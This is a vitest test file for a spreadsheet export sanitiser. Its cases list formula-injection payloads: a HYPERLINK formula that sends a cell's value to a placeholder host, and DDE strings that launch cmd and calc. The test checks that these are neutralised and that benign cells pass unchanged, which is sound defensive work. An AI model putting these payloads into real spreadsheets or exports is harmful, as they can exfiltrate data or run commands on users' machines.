import { describe, expect, it } from "vitest";
import { spreadsheetSafe } from "../../src/lib/downloads/spreadsheet-safe.ts";

describe("spreadsheetSafe", () => {
  it.each([
    ['=HYPERLINK("http://example.invalid/?"&A1,"x")', `'=HYPERLINK("http://example.invalid/?"&A1,"x")`],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
    ["\t=1+1", "'\t=1+1"],
    ["\r=1+1", "'\r=1+1"],
  ])("neutralises %j", (cell, safe) => {
    expect(spreadsheetSafe(cell)).toBe(safe);
  });

  it.each(["≥95%", "服务对象满意度", "", " =1", "2024年底前", "'already quoted", "1-2次"])(
    "leaves %j as it is",
    (cell) => {
      expect(spreadsheetSafe(cell)).toBe(cell);
    },
  );
});
